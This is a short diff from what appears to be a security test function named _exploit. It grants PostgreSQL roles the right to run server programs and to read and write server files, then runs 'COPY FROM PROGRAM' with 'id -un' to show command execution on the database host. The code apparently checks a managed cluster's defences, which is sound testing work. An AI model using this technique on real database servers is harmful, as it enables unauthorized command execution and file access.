@@ -50,7 +50,7 @@ def _exploit(cluster: Cluster) -> None:
         conn.execute("GRANT pg_execute_server_program TO doadmin")
         conn.execute("CREATE TABLE t (line text)")
         conn.execute("COPY t FROM PROGRAM 'id -un'")
-        assert conn.execute("SELECT line FROM t").fetchone() == (postgres.os_user().name,)
+        assert conn.execute("SELECT line FROM t").fetchone() == (cluster.os_user().name,)
         conn.execute("CREATE ROLE x LOGIN")
         conn.execute("GRANT pg_read_server_files, pg_write_server_files TO x")
 
